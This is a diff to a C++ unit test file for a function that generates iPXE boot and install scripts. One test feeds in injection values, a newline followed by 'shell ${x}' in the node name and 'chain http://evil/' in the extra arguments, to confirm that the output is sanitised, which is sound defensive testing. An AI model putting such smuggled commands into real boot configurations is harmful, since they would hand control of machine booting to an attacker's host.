@@ -27,7 +27,8 @@ TEST(IpxeScriptTest, InstallBootsTheKernelWithServerDiskAndBootif) {
 }
 
 TEST(IpxeScriptTest, NoDiskNoExtraArguments) {
-  InstallerBoot boot{.http_base = "http://h:1", .server = "h:2", .node = "n"};
+  InstallerBoot boot{.http_base = "http://h:1", .server = "h:2", .node = "n", .disk = "",
+                     .extra_args = ""};
   const std::string script = IpxeInstallScript(boot);
   EXPECT_EQ(script.find("fleetcast.disk"), std::string::npos);
   EXPECT_NE(script.find("BOOTIF=01-${net0/mac:hexhyp}\n"), std::string::npos);
@@ -39,6 +40,7 @@ TEST(IpxeScriptTest, ForeignTextCannotInjectCommandsOrSettings) {
   InstallerBoot boot{.http_base = "http://h:1",
                      .server = "h:2",
                      .node = "n\nshell ${x}",
+                     .disk = "",
                      .extra_args = "quiet\nchain http://evil/"};
   const std::string script = IpxeInstallScript(boot);
   EXPECT_NE(script.find("installing nshell {x} from"), std::string::npos);
